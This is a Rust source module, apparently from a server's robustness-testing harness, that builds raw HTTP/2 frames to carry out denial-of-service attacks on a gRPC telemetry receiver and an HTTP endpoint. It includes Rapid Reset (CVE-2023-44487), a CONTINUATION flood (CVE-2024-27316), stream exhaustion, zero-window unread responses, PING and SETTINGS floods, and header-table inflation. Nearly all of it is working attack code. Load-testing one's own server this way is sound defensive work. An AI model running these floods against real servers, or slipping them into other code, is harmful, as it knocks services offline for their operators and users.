//! Attacks over HTTP/2, frame by frame.

use super::Attack;
use super::http1::connect;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// Headers of a gRPC call.
fn call() -> Vec<u8> {
    let path = "/opentelemetry.proto.collector.trace.v1.TraceService/Export";
    headers_of("POST", path, &[("content-type", "application/grpc"), ("te", "trailers")])
}

/// An uncompressed header block.
fn headers_of(method: &str, path: &str, further: &[(&str, &str)]) -> Vec<u8> {
    let first = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "localhost")];
    let headers = first.iter().chain(further);
    let text = |text: &str| [&[text.len() as u8], text.as_bytes()].concat();
    headers.flat_map(|(name, value)| [vec![0], text(name), text(value)].concat()).collect()
}

/// A connection to the gRPC receiver.
fn connection(attack: &Attack<'_>) -> Option<TcpStream> {
    connection_to(attack.server.otlp_grpc, &[])
}

/// A connection that starts with these settings.
fn connection_to(address: SocketAddr, settings: &[u8]) -> Option<TcpStream> {
    let mut stream = connect(address)?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).ok()?;
    Some(stream)
}

/// Reads available bytes without blocking; returns whether the server has closed the connection.
fn is_closed(stream: &mut TcpStream) -> bool {
    let _ = stream.set_nonblocking(true);
    let mut bytes = [0; 64 << 10];
    let closed = loop {
        match stream.read(&mut bytes) {
            Ok(0) => break true,
            Ok(_) => {}
            Err(error) => break error.kind() != std::io::ErrorKind::WouldBlock,
        }
    };
    let _ = stream.set_nonblocking(false);
    closed
}

/// Calls that are reset immediately (CVE-2023-44487).
pub(super) fn rapid_reset(attack: Attack<'_>) {
    let headers = call();
    while attack.should_continue() {
        let Some(mut stream) = connection(&attack) else { continue };
        for round in 0..100 {
            let mut bytes = Vec::new();
            for index in 0..100 {
                let id = 1 + 2 * (round * 100 + index);
                bytes.extend(frame(HEADERS, END_HEADERS, id, &headers));
                bytes.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
            }
            if stream.write_all(&bytes).is_err() || is_closed(&mut stream) {
                break;
            }
        }
    }
}

/// More concurrent calls than allowed, which send little and never end.
pub(super) fn many_streams(attack: Attack<'_>) {
    let headers = call();
    while attack.should_continue() {
        let mut open = Vec::new();
        for _ in 0..8 {
            let Some(mut stream) = connection(&attack) else { continue };
            for index in 0..300 {
                let id = 1 + 2 * index;
                // It announces 16 MiB and sends a kilobyte.
                let begin = [&[0, 1, 0, 0, 0][..], &[0; 1000]].concat();
                let bytes = [frame(HEADERS, END_HEADERS, id, &headers), frame(DATA, 0, id, &begin)].concat();
                if stream.write_all(&bytes).is_err() {
                    break;
                }
            }
            open.push(stream);
        }
        std::thread::sleep(Duration::from_millis(500));
        let _closed = open.iter_mut().filter_map(|stream| is_closed(stream).then_some(())).count();
    }
}

/// Responses that are never read: the flow-control window is zero.
pub(super) fn unread_responses(attack: Attack<'_>) {
    let no_window = [0, 4, 0, 0, 0, 0];
    let headers =
        ["/metrics", "/api/v1/openapi.json", "/api/v1/status", "/"].map(|path| headers_of("GET", path, &[]));
    let mut open = Vec::new();
    while attack.should_continue() {
        let Some(mut stream) = connection_to(attack.server.http, &no_window) else { continue };
        for (id, headers) in (1..).step_by(2).zip(headers.iter().cycle()).take(100) {
            if stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, headers)).is_err() {
                break;
            }
        }
        open.push(stream);
        if open.len() > 40 {
            drop(open.remove(0));
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// Useless, expensive, and invalid frames.
pub(super) fn odd_frames(mut attack: Attack<'_>) {
    let headers = call();
    while attack.should_continue() {
        let Some(mut stream) = connection(&attack) else { continue };
        let bytes = match attack.random.below(7) {
            0 => frame(PING, 0, 0, &[7; 8]).repeat(1000),
            1 => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 1]).repeat(1000),
            2 => frame(WINDOW_UPDATE, 0, 0, &0x7FFF_FFFF_u32.to_be_bytes()).repeat(3),
            // Headers that never end (CVE-2024-27316).
            3 => {
                [frame(HEADERS, 0, 1, &headers), frame(CONTINUATION, 0, 1, &[0; 1000]).repeat(1000)].concat()
            }
            // A header table that is inflated by references.
            4 => frame(HEADERS, END_HEADERS | END_STREAM, 1, &[0x82; 16_000]),
            5 => frame(DATA, 0, 1, &vec![0; 16_384]).repeat(50),
            _ => (0..2000).map(|_| attack.random.below(256) as u8).collect(),
        };
        for _ in 0..20 {
            if stream.write_all(&bytes).is_err() || is_closed(&mut stream) {
                break;
            }
        }
    }
}
